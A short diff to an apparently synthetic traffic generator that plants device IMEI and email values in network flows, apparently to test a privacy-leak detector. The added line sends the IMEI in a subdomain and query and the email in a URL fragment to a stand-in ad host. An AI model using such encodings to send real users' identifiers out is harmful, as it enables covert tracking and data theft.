@@ -165,6 +165,7 @@ def send(w: Writer) -> None:
            headers=[["Content-Encoding", "gzip"]])
     digests = {name: hashlib.new(name, imei.encode()).hexdigest() for name in ("md5", "sha1", "sha256")}
     w.flow(f"{address}/c", json.dumps(digests | {"mail": hashlib.md5(email.encode()).hexdigest().upper()}).encode())
+    w.flow(f"https://{imei}.t.adnimbus.example/e?{imei}#{email}", host=f"{imei}.t.adnimbus.example")
     form = f"imei={imei}&hex={imei.encode().hex()}&nick={quote(str(PLANTED['name']))}"
     w.flow(f"{address}/d", form.encode(), protocol="http",
            headers=[["Cookie", f"uid={PLANTED['account']}"], ["Content-Type", "application/x-www-form-urlencoded"]])
